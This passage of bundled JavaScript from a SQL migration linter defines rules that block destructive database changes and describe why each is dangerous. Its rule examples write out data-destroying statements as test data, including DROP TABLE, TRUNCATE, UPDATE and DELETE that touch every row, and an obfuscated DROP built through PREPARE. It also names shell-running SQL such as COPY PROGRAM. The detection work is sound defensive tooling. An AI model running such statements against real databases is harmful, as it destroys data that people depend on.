        ...tests ? { downgradedBecause: `a test database (${operation.names.map(displayName).join(", ")})` } : {}
      });
    }
  }
};

// src/rules/sql/drop-owned.ts
var dropOwned = {
  meta: {
    id: "sql/drop-owned",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "DROP OWNED BY drops every object the role owns in the database, tables included.",
    messages: { dropOwned: "DROP OWNED BY {roles} drops every table and object those roles own" },
    examples: {
      invalid: [{ code: "REVOKE ALL ON SCHEMA app FROM legacy;\nDROP OWNED BY legacy CASCADE;", line: 2 }],
      valid: ["REASSIGN OWNED BY legacy TO app;\nDROP OWNED BY legacy;\nDROP ROLE legacy;"]
    }
  },
  check(doc, report) {
    const reassigned = operationsOf(doc, "reassign-owned");
    for (const { operation, unit } of operationsOf(doc, "drop-owned")) {
      const roles = operation.roles.filter(
        (role) => !reassigned.some(
          (r) => r.operation.span.start < operation.span.start && r.operation.roles.some((x) => x.toLowerCase() === role.toLowerCase())
        )
      );
      if (roles.length === 0) continue;
      report({ messageId: "dropOwned", data: { roles: roles.join(", ") }, span: operation.span, unit });
    }
  }
};

// src/rules/sql/drop-partition.ts
var dropPartition = {
  meta: {
    id: "sql/drop-partition",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "ALTER TABLE ... DROP PARTITION deletes every row stored in those partitions.",
    messages: { dropPartition: "DROP PARTITION {partitions} on {table} deletes every row in those partitions" },
    examples: {
      invalid: [
        {
          code: "ALTER TABLE request_logs\n  DROP PARTITION p2021, p2022;",
          line: 2,
          path: "db/mysql/20240701_drop_partitions.sql"
        }
      ],
      valid: [
        "ALTER TABLE request_logs REORGANIZE PARTITION pmax INTO (PARTITION p2025 VALUES LESS THAN (739617), PARTITION pmax VALUES LESS THAN MAXVALUE);"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop-partition")) {
      if (operation.detach) continue;
      const data = { partitions: operation.partitions.join(", "), table: displayName(operation.table) };
      report({ messageId: "dropPartition", data, span: operation.span, unit });
    }
  }
};

// src/rules/sql/lib/scratch-schema.ts
function scratchSchemaReason(doc, schema, dropAt) {
  const name = schema.at(-1)?.toLowerCase();
  if (name === void 0) return void 0;
  const side = inRanges(dropAt, doc.rollbackRanges);
  let createdAt;
  for (const statement of doc.statements) {
    if (statement.span.start >= dropAt) break;
    if (inRanges(statement.span.start, doc.rollbackRanges) !== side) continue;
    const tokens = codeTokens2(doc, statement.span.start, statement.span.end);
    if (createdAt === void 0) {
      if (createsSchema(tokens, name)) createdAt = statement.span.start;
      continue;
    }
    if (bringsExistingIn(tokens, name)) return void 0;
  }
  if (createdAt === void 0) return void 0;
  const line = new LineIndex(doc.text).lineOf(createdAt);
  return `${schema.join(".")} is created by this migration (line ${line}): dropping it loses only what the migration put in it`;
}
function codeTokens2(doc, start, end) {
  return tokenize(doc.text.slice(start, end), doc.dialect).filter((t) => t.kind !== "comment");
}
var word = (t) => t?.kind === "word" ? t.upper ?? t.text.toUpperCase() : void 0;
var named = (t, name) => t !== void 0 && (t.kind === "word" || t.kind === "quoted-ident") && t.value.toLowerCase() === name;
function createsSchema(tokens, name) {
  if (word(tokens[0]) !== "CREATE") return false;
  const what = word(tokens[1]);
  if (what !== "SCHEMA" && what !== "DATABASE") return false;
  return named(tokens[2], name);
}
function bringsExistingIn(tokens, name) {
  if (!tokens.some((t) => named(t, name))) return false;
  const first = word(tokens[0]);
  if (first === "ALTER" || first === "RENAME") return true;
  return first === "CREATE" && word(tokens[1]) === "OR";
}

// src/rules/sql/drop-schema.ts
var dropSchema = {
  meta: {
    id: "sql/drop-schema",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "DROP SCHEMA: with CASCADE every table, view and row in the schema goes with it.",
    messages: {
      dropSchema: "DROP SCHEMA {name} removes the schema",
      dropSchemaCascade: "DROP SCHEMA {name} CASCADE destroys every table and row in the schema"
    },
    examples: {
      invalid: [
        { code: "drop schema if exists public cascade;\ncreate schema public;", line: 1 },
        { code: "-- migrate:up\nDROP SCHEMA reporting CASCADE;\n\n-- migrate:down\nCREATE SCHEMA reporting;", line: 2 }
      ],
      valid: [
        "CREATE SCHEMA scratch;\nCREATE TABLE scratch.t (id int);\nDROP SCHEMA scratch CASCADE;",
        "CREATE SCHEMA reporting;",
        "COMMENT ON SCHEMA reporting IS 'drop schema later';",
        // A note, not blocking: the migration created the schema, so only what it put there goes.
        "CREATE SCHEMA import_tmp;\nCREATE TABLE import_tmp.countries (code char(2));\nDROP SCHEMA import_tmp CASCADE;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop")) {
      if (operation.objectType !== "schema") continue;
      const name = operation.names.map(displayName).join(", ");
      const scratch = operation.names.map((n) => scratchSchemaReason(doc, n, operation.span.start));
      report({
        messageId: operation.cascade ? "dropSchemaCascade" : "dropSchema",
        data: { name },
        span: operation.span,
        unit,
        ...scratch.every((r) => r !== void 0) ? { downgradedBecause: scratch.join("; ") } : {}
      });
    }
  }
};

// src/rules/sql/lib/kept-rows.ts
function keptRowsReason(doc, table, dropAt) {
  const key = nameKey(table);
  for (const { stmt, copy } of rowCopies(doc)) {
    if (stmt.span.start >= dropAt) break;
    if (copy.from !== key || copy.into === key) continue;
    const createdHere = operationsOf(doc, "create-table").some(
      ({ operation }) => nameKey(operation.name) === copy.into && !operation.temporary && operation.span.start < stmt.span.start
    );
    if (!createdHere || droppedLater(doc, copy.into, dropAt)) continue;
    if (copy.columns !== "*") {
      const columns = stateAt(doc.prior, doc, doc.text, stmt.span.start).get(key);
      if (!Array.isArray(columns)) continue;
      const copied = new Set(copy.columns);
      if (!columns.every((c) => copied.has(c.name.toLowerCase()))) continue;
    }
    const line = lineOfOffset(doc, stmt.span.start);
    return `table rebuilt: every row and column of ${table.join(".")} was copied into ${copy.into} first (line ${line})`;
  }
  return void 0;
}
var copiesOf = /* @__PURE__ */ new WeakMap();
function rowCopies(doc) {
  let copies = copiesOf.get(doc);
  if (!copies) {
    copies = [];
    for (const stmt of doc.statements) {
      if (!mayBeInsert(doc.text, stmt.span.start)) continue;
      const copy = rowCopy(doc.text, stmt.span, doc.dialect);
      if (copy) copies.push({ stmt, copy });
    }
    copiesOf.set(doc, copies);
  }
  return copies;
}
function mayBeInsert(text, start) {
  const head = text.slice(start, start + 7);
  return /[^\x00-\x7f]/.test(head) || /^insert(?![A-Za-z0-9_])/i.test(head);
}
function droppedLater(doc, key, after) {
  return operationsOf(doc, "drop").some(
    ({ operation }) => operation.span.start > after && operation.objectType === "table" && operation.names.some((n) => nameKey(n) === key)
  );
}

// src/rules/sql/lib/schema-dump.ts
var DUMP_HEADER = /^-- (?:PostgreSQL database dump|MySQL dump|MariaDB dump)\b|^-- Dumped from database version\b/m;
var STRUCTURE_FILE = /(^|\/)db\/(?:[\w-]+_)?structure\.sql$/i;
var RUN_FOLDER = /(^|\/)(migrations?|migrate|deploy|upgrades?|changelogs?|changes|patches|releases?)\//i;
function isSchemaDump(path, text) {
  if (RUN_FOLDER.test(path)) return false;
  return STRUCTURE_FILE.test(path) || DUMP_HEADER.test(text.slice(0, 4096));
}
function dumpPreambleReason(doc, table, dropAt) {
  if (!isSchemaDump(doc.path, doc.text)) return void 0;
  const again = createsOf(doc, table).find((create) => create.span.start > dropAt && !create.temporary);
  if (!again) return void 0;
  const line = lineOfOffset(doc, again.span.start);
  return `clean preamble of a schema dump: the file creates ${table.join(".")} again (line ${line}); a dump pictures the schema, it is not a migration`;
}

// src/rules/sql/drop-table.ts
var dropTable = {
  meta: {
    id: "sql/drop-table",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "DROP TABLE of a table that existed before the migration: the table and every row in it are gone.",
    messages: { dropTable: "DROP TABLE {name} destroys the table and all its rows" },
    examples: {
      invalid: [
        { code: "DROP TABLE bookings;", line: 1 },
        { code: '-- tidy up\nALTER TABLE a ADD COLUMN b int;\ndrop/**/table IF EXISTS "Orders" CASCADE;', line: 3 },
        { code: "CREATE TABLE `keep` (id int);\nDROP TABLE `legacy_orders`;", line: 2, path: "db/mysql/V2__drop.sql" },
        {
          code: "CREATE TABLE new_orders (id integer, total numeric(12,2));\nINSERT INTO new_orders SELECT * FROM orders WHERE total > 0;\nDROP TABLE orders;\nALTER TABLE new_orders RENAME TO orders;",
          line: 3
        }
      ],
      valid: [
        "CREATE TEMP TABLE scratch (id int);\nDROP TABLE scratch;",
        "CREATE TABLE staging_import (id int);\nINSERT INTO t SELECT * FROM staging_import;\nDROP TABLE staging_import;",
        "-- DROP TABLE users;\nSELECT 'DROP TABLE users';",
        "DROP INDEX CONCURRENTLY IF EXISTS idx_orders_status;",
        "CREATE TABLE new_orders (id integer, total numeric(12,2));\nINSERT INTO new_orders SELECT * FROM orders;\nDROP TABLE orders;\nALTER TABLE new_orders RENAME TO orders;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop")) {
      if (operation.objectType !== "table" || operation.temporary) continue;
      const lost = operation.names.filter((n) => heldDataBefore(doc, n, operation.span.start));
      if (lost.length === 0) continue;
      const kept = lost.map(
        (n) => keptRowsReason(doc, n, operation.span.start) ?? dumpPreambleReason(doc, n, operation.span.start) ?? doc.createdInChange?.(n)
      );
      report({
        messageId: "dropTable",
        data: { name: lost.map(displayName).join(", ") },
        span: operation.span,
        unit,
        ...kept.every((k) => k !== void 0) ? { downgradedBecause: kept.join("; ") } : {}
      });
    }
  }
};

// src/rules/sql/dynamic-sql.ts
var dynamicSql = {
  meta: {
    id: "sql/dynamic-sql",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "SQL built at run time (EXECUTE, PREPARE, EXEC of a variable) cannot be read before it runs, so it needs a human.",
    messages: { dynamicSql: "{reason}; two-key cannot see what it will run" },
    examples: {
      invalid: [
        {
          code: "DO $$\nBEGIN\n  EXECUTE format('DROP TABLE %I', 'orders_' || to_char(now(), 'YYYY'));\nEND $$;",
          line: 3
        },
        {
          code: "SET @s = CONCAT('DR', 'OP TABLE t');\nPREPARE stmt FROM @s;\nEXECUTE stmt;",
          line: 2,
          path: "db/mysql/V9__rotate.sql"
        }
      ],
      valid: ["DO $$\nBEGIN\n  RAISE NOTICE 'EXECUTE nothing';\nEND $$;"]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "dynamic-sql")) {
      report({ messageId: "dynamicSql", data: { reason: operation.reason }, span: operation.span, unit });
    }
  }
};

// src/parsers/sql/lossy-types.ts
var INTEGER = /^(tiny|small|medium|big)?int(eger)?\d?(\(\d+\))?$|^int[248]$|^(small|big)?serial\d?$|^u?int(8|16|32|64|128|256)$/;
var CLICKHOUSE_INTEGER = /^uint(8|16|32|64|128|256)$|^int(16|32|64|128|256)$/;
var NARROW_INTEGER = /^(tinyint|smallint|int2|mediumint)(\(\d+\))?$|^(int|integer|int4)(\(\d+\))?$|^uint(8|16|32)$|^int(16|32)$/;
var FRACTIONAL = /^(numeric|decimal|real|float|double|money|float4|float8|number)/;
var TEXTUAL = /^(text|varchar|character varying|char|character|nvarchar|nchar|string|bpchar|citext|clob|longtext|mediumtext)/;
var TIMESTAMP = /^(timestamp|timestamptz|datetime|datetime2|datetimeoffset)/;
function isLossy(rawFrom, rawTo) {
  const to = withoutSign(unwrapped(rawTo));
  if (rawFrom === void 0) return boundsValues(to) || CHOICE.test(to);
  const from = withoutSign(unwrapped(rawFrom));
  if (CHOICE.test(to)) return !CHOICE.test(from) || !choices(from).every((v) => choices(to).includes(v));
  if (INTEGER.test(to)) {
    if (FRACTIONAL.test(from) || TEXTUAL.test(from)) return true;
    const [wide, narrow] = [integerWidth(from), integerWidth(to)];
    return narrow < wide || narrow === wide && INTEGER.test(from) && isUnsigned(unwrapped(rawFrom)) !== isUnsigned(unwrapped(rawTo));
  }
  if (TEXTUAL.test(to)) {
    const newLength = length(to);
    if (newLength === void 0) return false;
    const oldLength = TEXTUAL.test(from) ? length(from) : void 0;
    return oldLength === void 0 ? TEXTUAL.test(from) : newLength < oldLength;
  }
  if (/^date$/.test(to)) return TIMESTAMP.test(from);
  if (FRACTIONAL.test(to) && FRACTIONAL.test(from)) {
    const [p1, s1] = precision(from);
    const [p2, s2] = precision(to);
    return p2 !== void 0 && p1 !== void 0 && p2 < p1 || s2 !== void 0 && s1 !== void 0 && s2 < s1;
  }
  return false;
}
var CHOICE = /^(enum|set)\s*\(/;
function choices(type) {
  return [...type.matchAll(/'((?:[^']|'')*)'/g)].map((m) => m[1]);
}
function withoutSign(type) {
  return type.replace(/\s+(unsigned|signed|zerofill)\b/g, "").trim();
}
function isUnsigned(type) {
  return /\bunsigned\b|^uint/.test(type);
}
function unwrapped(type) {
  const m = /^(nullable|lowcardinality)\s*\((.*)\)$/.exec(type.trim());
  return m ? unwrapped(m[2]) : type;
}
function boundsValues(to) {
  if (NARROW_INTEGER.test(to)) return true;
  if (TEXTUAL.test(to)) return length(to) !== void 0;
  if (FRACTIONAL.test(to) && !/^(real|float4|float8|double|money)/.test(to)) return precision(to)[0] !== void 0;
  return /^(date|time(\(\d\))?( without time zone)?|timetz|time(\(\d\))? with time zone|bool|boolean|real|float4)$/.test(
    to
  );
}
function integerWidth(type) {
  const bits = CLICKHOUSE_INTEGER.exec(type);
  if (bits) return Number(bits[1] ?? bits[2]) / 8;
  if (/^(tinyint)/.test(type)) return 1;
  if (/^(smallint|int2|smallserial)/.test(type)) return 2;
  if (/^(mediumint)/.test(type)) return 3;
  if (/^(bigint|int8|bigserial)/.test(type)) return 8;
  if (INTEGER.test(type)) return 4;
  return 16;
}
function length(type) {
  const m = /\((\d+)\)/.exec(type);
  return m ? Number(m[1]) : void 0;
}
function precision(type) {
  const m = /\((\d+)(?:\s*,\s*(\d+))?\)/.exec(type);
  return m ? [Number(m[1]), m[2] === void 0 ? void 0 : Number(m[2])] : [void 0, void 0];
}

// src/parsers/migrations/current-columns.ts
var CurrentColumns = class {
  /** `source` says where the types were read, for the finding: `db/schema.rb`. */
  constructor(source) {
    this.source = source;
  }
  source;
  tables = /* @__PURE__ */ new Map();
  get size() {
    return this.tables.size;
  }
  setTable(table, columns = []) {
    this.tables.set(tableKey(table), new Map([...columns].map(([c, t]) => [c.toLowerCase(), t])));
  }
  set(table, column, type) {
    const key = tableKey(table);
    let columns = this.tables.get(key);
    if (!columns) this.tables.set(key, columns = /* @__PURE__ */ new Map());
    columns.set(column.toLowerCase(), type);
  }
  dropTable(table) {
    this.tables.delete(tableKey(table));
  }
  dropColumn(table, column) {
    this.tables.get(tableKey(table))?.delete(column.toLowerCase());
  }
  renameTable(from, to) {
    const columns = this.tables.get(tableKey(from));
    this.tables.delete(tableKey(from));
    if (columns) this.tables.set(tableKey(to), columns);
  }
  renameColumn(table, from, to) {
    const columns = this.tables.get(tableKey(table));
    const type = columns?.get(from.toLowerCase());
    if (!columns || !type) return;
    columns.delete(from.toLowerCase());
    columns.set(to.toLowerCase(), type);
  }
  typeOf(table, column) {
    return this.tables.get(tableKey(table))?.get(column.toLowerCase());
  }
};
function tableKey(name) {
  const parts = name.toLowerCase().split(".").map((p) => p.replace(/^["`[]|["`\]]$/g, ""));
  if (parts.length > 1 && ["public", "dbo"].includes(parts[parts.length - 2])) parts.splice(parts.length - 2, 1);
  return parts.slice(-2).join(".");
}
function wideningReason(target, from, to, source) {
  return `widening: ${target} is ${from} now (read from ${source}), and ${to} holds every value it holds`;
}

// src/rules/sql/lossy-type-change.ts
var CUTTING_USING = /\b(left|substr|substring|trunc|truncate|round|floor|ceil|ceiling|date_trunc)\s*\(|::\s*(int|integer|smallint|bigint|int[248]|date|varchar\s*\(|char\s*\()|\bas\s+(int|integer|smallint|date)\b|^null$/i;
var lossyTypeChange = {
  meta: {
    id: "sql/lossy-type-change",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "A column type change that loses information: numbers to integers, shorter strings, timestamps to dates, or a USING that cuts.",
    messages: {
      lossy: "changing {table}.{column} from {from} to {to} loses information in existing rows",
      lossyUnknown: "changing {table}.{column} to {to} can lose information in existing rows; its current type is unknown (no earlier migration or schema file defines it)",
      widening: "changing {table}.{column} from {from} to {to} keeps every stored value (the type is read from {source})",
      lossyUsing: "changing {table}.{column} to {to} USING {using} rewrites every row and loses information"
    },
    examples: {
      invalid: [
        { code: "ALTER TABLE products ALTER COLUMN price TYPE integer;", line: 1 },
        {
          code: "CREATE TABLE notes (id int, body varchar(500));\nALTER TABLE notes ALTER COLUMN body TYPE varchar(100);",
          line: 2
        },
        { code: "ALTER TABLE events\n  ALTER COLUMN happened_at TYPE date USING happened_at::date;", line: 2 },
        { code: "ALTER TABLE products MODIFY COLUMN price INT NOT NULL;", line: 1, path: "db/mysql/V5__price.sql" }
      ],
      valid: [
        "ALTER TABLE users ALTER COLUMN id TYPE bigint;",
        "ALTER TABLE users ALTER COLUMN bio TYPE text;",
        "CREATE TABLE notes (id int, body varchar(100));\nALTER TABLE notes ALTER COLUMN body TYPE varchar(500);"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "alter-column-type")) {
      const to = displayType(operation.newType.toLowerCase());
      const known = knownType(doc, operation.table, operation.column, operation.span.start);
      const from = known?.type === void 0 ? void 0 : displayType(known.type);
      const data = {
        table: displayName(operation.table),
        column: operation.column,
        to,
        from: from ?? "its current type"
      };
      const using = operation.using?.trim();
      if (using && !castsToNewType(using, operation.column, operation.newType) && CUTTING_USING.test(using)) {
        report({
          messageId: "lossyUsing",
          data: { ...data, using },
          span: operation.span,
          unit
        });
      } else if (isLossy(from, to)) {
        report({ messageId: from === void 0 ? "lossyUnknown" : "lossy", data, span: operation.span, unit });
      } else if (known !== void 0 && isLossy(void 0, to)) {
        const target = `${data.table}.${operation.column}`;
        report({
          messageId: "widening",
          data: { ...data, source: known.source },
          span: operation.span,
          unit,
          downgradedBecause: wideningReason(target, from, to, known.source)
        });
      }
    }
  }
};
function knownType(doc, table, column, before) {
  let found;
  for (const create of createsOf(doc, table)) {
    if (create.span.start >= before) continue;
    found = create.columns.find((c) => c.name.toLowerCase() === column.toLowerCase())?.type ?? found;
  }
  if (found !== void 0) return { type: found, source: "a CREATE TABLE earlier in this file" };
  const lookup = (prior) => {
    const columns = stateAt(prior, doc, doc.text, before).get(nameKey(table));
    return Array.isArray(columns) ? columns.find((c) => c.name.toLowerCase() === column.toLowerCase())?.type?.toLowerCase() : void 0;
  };
  const history = doc.prior.size === 0 ? void 0 : lookup(doc.prior);
  if (history !== void 0) return { type: history, source: "the migrations before this one" };
  const file = doc.schemaFile;
  const fromFile = file ? lookup(file.state) : void 0;
  return fromFile === void 0 ? void 0 : { type: fromFile, source: file.source };
}
function castsToNewType(using, column, newType) {
  const m = /^\(?\s*("?)([^"\s:()]+)\1\s*\)?\s*::\s*(.+)$/s.exec(using) ?? /^cast\s*\(\s*("?)([^"\s()]+)\1\s+as\s+(.+)\)$/is.exec(using);
  if (!m || m[2].toLowerCase() !== column.toLowerCase()) return false;
  return sameType(m[3], newType);
}
var TYPE_SYNONYMS = {
  int: "int4",
  integer: "int4",
  bigint: "int8",
  smallint: "int2",
  real: "float4",
  "double precision": "float8",
  boolean: "bool",
  "character varying": "varchar",
  character: "bpchar",
  char: "bpchar",
  "timestamp with time zone": "timestamptz",
  "timestamp without time zone": "timestamp",
  decimal: "numeric"
};
function sameType(a, b) {
  const norm = (t) => {
    const lower = t.toLowerCase().replace(/"/g, "").replace(/\s+/g, " ").trim();
    const m = /^([a-z_ ]+?)\s*(\(.*\))?$/.exec(lower);
    if (!m) return lower.replace(/\s/g, "");
    return (TYPE_SYNONYMS[m[1]] ?? m[1]) + (m[2] ?? "").replace(/\s/g, "");
  };
  return norm(a) === norm(b);
}
var DISPLAY = {
  int2: "smallint",
  int4: "integer",
  int8: "bigint",
  float4: "real",
  float8: "double precision",
  bool: "boolean",
  timestamptz: "timestamp with time zone"
};
function displayType(type) {
  return DISPLAY[type] ?? type.replace(/^bpchar\b/, "char");
}

// src/rules/sql/production-object.ts
var productionObject = {
  meta: {
    id: "sql/production-object",
    family: "sql",
    kind: "production",
    defaultSeverity: "warn",
    description: "A statement names a production project, database or schema (by the policy, or by a prod/production name part).",
    messages: { productionObject: "{name} is a production object" },
    examples: {
      invalid: [
        {
          code: 'DELETE FROM `acme-analytics-prod.events.page_views`\nWHERE event_date < "2020-01-01";',
          line: 1,
          path: "warehouse/bq/prune.sql"
        }
      ],
      valid: [
        "ALTER TABLE `acme-analytics-staging.events.page_views` ADD COLUMN IF NOT EXISTS consent STRING;",
        "SELECT * FROM products;"
      ]
    }
  },
  check(doc, report) {
    const seen = /* @__PURE__ */ new Set();
    for (const { operation, unit } of operationsOf(doc, "reference")) {
      const qualifiers = operation.name.slice(0, -1);
      const production = qualifiers.find((part) => doc.isProductionName(part));
      if (!production) continue;
      const key = `${unit.start}:${production}`;
      if (seen.has(key)) continue;
      seen.add(key);
      report({
        messageId: "productionObject",
        data: { name: displayName(operation.name) },
        span: operation.span,
        unit
      });
    }
  }
};

// src/rules/sql/rename-column.ts
var renameColumn = {
  meta: {
    id: "sql/rename-column",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "warn",
    description: "Renaming a column breaks every running reader and writer that still uses the old name.",
    messages: { renameColumn: "renaming column {table}.{from} to {to} breaks code that still uses the old name" },
    examples: {
      invalid: [{ code: "ALTER TABLE users RENAME COLUMN email TO email_address;", line: 1 }],
      valid: ["ALTER TABLE users ADD COLUMN email_address text;"]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "rename-column")) {
      const data = { table: displayName(operation.table), from: operation.from, to: operation.to };
      report({ messageId: "renameColumn", data, span: operation.span, unit });
    }
  }
};

// src/rules/sql/rename-table.ts
var renameTable = {
  meta: {
    id: "sql/rename-table",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "warn",
    description: "Renaming a table breaks every running reader and writer that still uses the old name.",
    messages: { renameTable: "renaming table {from} to {to} breaks code that still uses the old name" },
    examples: {
      invalid: [
        { code: "ALTER TABLE orders RENAME TO orders_v1;", line: 1 },
        { code: "RENAME TABLE orders TO orders_old;", line: 1, path: "db/mysql/V8__rename.sql" }
      ],
      valid: ["ALTER INDEX orders_idx RENAME TO orders_status_idx;"]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "rename-table")) {
      report({
        messageId: "renameTable",
        data: { from: displayName(operation.from), to: operation.to },
        span: operation.span,
        unit
      });
    }
  }
};

// src/rules/sql/tautological-where.ts
var tautologicalWhere = {
  meta: {
    id: "sql/tautological-where",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "DELETE or UPDATE whose WHERE is always true (1=1, TRUE, 'a'='a'): it touches every row.",
    messages: { tautology: "{verb} on {name} has a WHERE that is always true and touches every row" },
    examples: {
      invalid: [
        { code: "DELETE FROM events\nWHERE 1=1;", line: 1 },
        { code: "UPDATE users SET admin = true WHERE 'a' = 'a';", line: 1 },
        {
          code: "DELETE FROM `acme-prod.events.page_views`\nWHERE TRUE;",
          line: 1,
          path: "warehouse/bigquery/reingest.sql"
        }
      ],
      valid: ["DELETE FROM events WHERE 1 = 0;", "DELETE FROM events WHERE created_at < now() - interval '90 days';"]
    }
  },
  check(doc, report) {
    for (const verb of ["delete", "update"]) {
      for (const { operation, unit } of operationsOf(doc, verb)) {
        if (operation.where !== "tautology") continue;
        if (!heldDataBefore(doc, operation.table, operation.span.start)) continue;
        const data = { verb: verb.toUpperCase(), name: displayName(operation.table) };
        report({ messageId: "tautology", data, span: operation.span, unit });
      }
    }
  }
};

// src/rules/sql/truncate.ts
var truncate = {
  meta: {
    id: "sql/truncate",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "TRUNCATE empties tables at once, with no WHERE and no per-row undo.",
    messages: { truncate: "TRUNCATE {name} deletes every row" },
    examples: {
      invalid: [
        { code: "BEGIN;\nTRUNCATE TABLE audit_events;\nCOMMIT;", line: 2 },
        { code: "SET XACT_ABORT ON;\nTRUNCATE TABLE dbo.AuditTrail;", line: 2, path: "db/sqlserver/0900_audit.sql" }
      ],
      valid: ["CREATE TEMP TABLE t (id int);\nTRUNCATE t;", "SELECT 'TRUNCATE audit_events';"]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "truncate")) {
      const lost = operation.tables.filter((n) => heldDataBefore(doc, n, operation.span.start));
      if (lost.length)
        report({ messageId: "truncate", data: { name: lost.map(displayName).join(", ") }, span: operation.span, unit });
    }
  }
};

// src/rules/sql/update-without-where.ts
var updateWithoutWhere = {
  meta: {
    id: "sql/update-without-where",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "UPDATE with no WHERE clause overwrites the column in every row; the old values are gone.",
    messages: { updateAll: "UPDATE {name} has no WHERE clause and overwrites every row" },
    examples: {
      invalid: [
        { code: "-- rebuild later\nUPDATE wallets SET balance_cents = 0, updated_at = now();", line: 2 },
        { code: "UPDATE `users` SET `email` = NULL;", line: 1, path: "db/mysql/V7__null_emails.sql" }
      ],
      valid: [
        "UPDATE wallets SET balance_cents = 0 WHERE id = 42;",
        "INSERT INTO t (k, v) VALUES (1, 2) ON CONFLICT (k) DO UPDATE SET v = EXCLUDED.v;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "update")) {
      if (operation.where !== "none") continue;
      if (!heldDataBefore(doc, operation.table, operation.span.start)) continue;
      report({ messageId: "updateAll", data: { name: displayName(operation.table) }, span: operation.span, unit });
    }
  }
};

// src/rules/sql/lib/tokens.ts
var cache = /* @__PURE__ */ new WeakMap();
function codeTokens3(doc) {
  let tokens = cache.get(doc);
  if (!tokens) {
    tokens = tokenize(doc.text, doc.dialect).filter((t) => t.kind !== "comment");
    cache.set(doc, tokens);
  }
  return tokens;
}
var searchable = /* @__PURE__ */ new WeakMap();
function mayHold(doc, pattern) {
  let text = searchable.get(doc);
  if (text === void 0) {
    text = NON_ASCII.test(doc.text) ? inKeywordForm(doc.text) : doc.text;
    searchable.set(doc, text);
  }
  return pattern.test(text);
}
var NON_ASCII = /[^\x00-\x7f]/;
function inKeywordForm(text) {
  const found = new RegExp(NON_ASCII.source, "g");
  let out = "";
  let done = 0;
  for (let m = found.exec(text); m; m = found.exec(text)) {
    let start = m.index;
    while (start > done && isAsciiWordCode(text.charCodeAt(start - 1))) start--;
    let end = m.index + 1;
    while (end < text.length && (text.charCodeAt(end) > 127 || isAsciiWordCode(text.charCodeAt(end)))) end++;
    out += text.slice(done, start) + keywordForm(text.slice(start, end));
    done = found.lastIndex = end;
  }
  return out + text.slice(done);
}
function isAsciiWordCode(c) {
  return c >= 48 && c <= 57 || c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
}
function codeTokenFrom(doc, offset) {
  const lexer = new SqlLexer(doc.text, doc.dialect);
  lexer.pos = offset;
  for (let token = lexer.next(); token; token = lexer.next()) if (token.kind !== "comment") return token;
  return void 0;
}
function codeTokensWhere(doc, word2) {
  if (NON_ASCII.test(doc.text)) return codeTokens3(doc);
  const tokens = [];
  let last;
  for (const match of doc.text.matchAll(word2)) {
    const span = statementAt(doc, { start: match.index, end: match.index + match[0].length });
    if (span === last || span.start === match.index && span.end === match.index + match[0].length) continue;
    last = span;
    const lexer = new SqlLexer(doc.text, doc.dialect);
    lexer.pos = span.start;
    for (let token = lexer.next(); token && token.start < span.end; token = lexer.next()) {
      if (token.kind !== "comment") tokens.push(token);
    }
  }
  return tokens;
}
function statementAt(doc, token) {
  const { statements } = doc;
  let low = 0;
  let high = statements.length - 1;
  while (low <= high) {
    const mid = low + high >> 1;
    const span = statements[mid].span;
    if (token.start < span.start) high = mid - 1;
    else if (token.start >= span.end) low = mid + 1;
    else return span;
  }
  return { start: token.start, end: token.end };
}
function isWord2(token, word2) {
  return token?.kind === "word" && token.upper === word2;
}

// src/rules/sql/drop-cascade.ts
var WHAT = {
  type: "every column of that type (and the tables whose rows need it) with it",
  extension: "every object that depends on the extension with it: columns of its types, indexes, functions"
};
var dropCascade = {
  meta: {
    id: "sql/drop-cascade",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "`DROP TYPE`, `DROP DOMAIN` or `DROP EXTENSION` with `CASCADE`: every column and object that depends on it is dropped too, with its data.",
    messages: { cascade: "DROP {what} {name} CASCADE drops {consequence}" },
    examples: {
      invalid: [
        { code: "DROP TYPE order_status CASCADE;", line: 1 },
        { code: "SELECT 1;\nDROP EXTENSION IF EXISTS postgis CASCADE;", line: 2 },
        { code: "DROP DOMAIN email_address CASCADE;", line: 1 }
      ],
      valid: [
        "DROP TYPE order_status;",
        "DROP EXTENSION IF EXISTS pg_trgm RESTRICT;",
        "DROP VIEW recent_orders CASCADE;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop")) {
      const consequence = WHAT[operation.objectType];
      if (!consequence || !operation.cascade) continue;
      const names = operation.names.map(displayName);
      const next = codeTokenFrom(doc, operation.span.end);
      const what = isWord2(next, "DOMAIN") ? "DOMAIN" : operation.objectType.toUpperCase();
      report({ messageId: "cascade", data: { what, name: names.join(", "), consequence }, span: operation.span, unit });
    }
  }
};

// src/rules/sql/runs-outside-sql.ts
var runsOutsideSql = {
  meta: {
    id: "sql/runs-outside-sql",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "SQL that runs what the file does not show as SQL: `COPY ... PROGRAM` and psql `\\!` run shell commands, psql `\\gexec` runs every row a query returns as a statement, `sp_MSforeachtable` runs a command on every table.",
    messages: {
      program: "COPY ... PROGRAM runs a shell command on the database server",
      shell: "psql \\! runs a shell command on the machine that applies the file",
